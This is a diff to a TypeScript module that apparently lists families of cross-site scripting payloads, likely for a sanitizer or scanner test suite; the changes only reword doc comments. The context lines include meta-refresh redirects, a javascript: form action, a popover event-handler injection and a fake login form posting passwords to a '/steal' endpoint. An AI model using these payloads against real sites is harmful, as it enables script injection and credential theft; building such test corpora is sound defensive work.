@@ -2,7 +2,7 @@ import { act, family, site } from './attack';
 
 const page = `<script>${act}</script>`;
 
-/** Elements that load, replace or redirect documents, and forms that send. */
+/** Elements that load, replace or redirect documents. */
 export const documents = family('document', [
   `<meta http-equiv=refresh content="0;url=${site}/">`,
   `<meta http-equiv="refresh" content="0;javascript:${act}">`,
@@ -58,7 +58,7 @@ export const documents = family('document', [
   `<div popover=auto id=p ontoggle=${act}>p</div><button popovertarget=p>x</button>`,
 ]);
 
-/** Forms that send, and controls that fire. */
+/** Forms that submit, and controls that fire events. */
 export const forms = family('form', [
   `<form action="javascript:${act}"><input type=submit value=go></form>`,
   `<form action="${site}/steal" method=post><input name=password type=password><button>Log in</button></form>`,
